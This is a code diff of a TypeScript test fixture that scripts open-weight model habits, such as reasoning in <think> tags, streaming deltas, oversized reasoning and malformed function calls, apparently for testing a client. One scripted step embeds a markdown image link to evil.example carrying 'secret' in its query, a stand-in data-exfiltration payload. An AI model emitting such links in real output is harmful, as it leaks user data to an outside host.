@@ -14,9 +14,15 @@ const functionIn = (tools: readonly string[]) =>
   tools.find((name) => name !== "file_search") ?? "none";
 const CITED = "The warranty of the kettle lasts two years. [1] ";
 
-/** The habits of open models and their servers, by the names of scripts. */
+/**
+ * Scripts that imitate habits of open-weight models and their servers, by name. A scripted model follows the script
+ * that its question names.
+ */
 export const HABITS: Record<string, (scene: Scene) => Step[]> = {
-  /** Reasons in tags, before and within its text; the text comes in deltas of 7 characters. */
+  /**
+   * The model writes its reasoning in `<think>` tags, before and within its text, and sends it in deltas of 7
+   * characters.
+   */
   "thinks-in-tags": () => [
     { text: `<think>\nHm, passage 1 [1] says two. [2]\n</think>\n\n${CITED}<think>Or three? ` },
     { text: "![x](https://evil.example/?q=secret)</think>It is written in the documents. [1]" },
@@ -25,7 +31,7 @@ export const HABITS: Record<string, (scene: Scene) => Step[]> = {
   "thinks-unclosed": () => [{ text: "Two years it is. <think>Or three?" }, end],
   "thinks-alone": () => [{ text: "<think>I do not know what to say." }, end],
   "thinks-in-json": () => [{ text: '<think>JSON!</think>{"tag":"<think>"}' }, end],
-  /** Reasons in every field that a server is known to use. */
+  /** The model sends its reasoning in every field that a server is known to use for it. */
   "thinks-in-fields": () => [
     { delta: { reasoning_content: "one " } },
     { delta: { reasoning: "two " } },
@@ -38,7 +44,7 @@ export const HABITS: Record<string, (scene: Scene) => Step[]> = {
     end,
   ],
   "thinks-60-mb": () => [{ flood: 60_000_000, delta: 16_384, as: "reasoning_content" }],
-  /** Reasons for more than an answer may have of it, and answers. */
+  /** The model sends more reasoning than an answer may contain, and then answers. */
   "thinks-long": () => [
     ...Array.from({ length: 12 }, () => ({ delta: { reasoning: "Hm. ".repeat(11_000) } })),
     { text: "Two years." },
@@ -53,7 +59,7 @@ export const HABITS: Record<string, (scene: Scene) => Step[]> = {
     asked === 0
       ? [{ delta: { reasoning: "First." } }, { waitMs: PAUSE_MS }, { disconnect: true }]
       : [{ delta: { reasoning: "Second." } }, { text: "Two years." }, end],
-  /** Calls a function and writes its arguments in five pieces, with pauses. */
+  /** The model calls a function and sends the arguments in five pieces, with pauses. */
   "calls-in-pieces": ({ tools }) => [
     call(0, {
       id: "call_7",
@@ -65,7 +71,7 @@ export const HABITS: Record<string, (scene: Scene) => Step[]> = {
     ),
     { finish: "tool_calls" },
   ],
-  /** Calls a function without arguments: an empty text, null, none at all, and a function without a member of it. */
+  /** The model calls a function four times without arguments: as an empty text, as null, not at all, and as spaces. */
   "calls-without-arguments": ({ tools }) => [
     ...[{ arguments: "" }, { arguments: null }, {}, { arguments: "  " }].map((given, index) =>
       call(index, { id: `call_${index}`, function: { name: functionIn(tools), ...given } }),
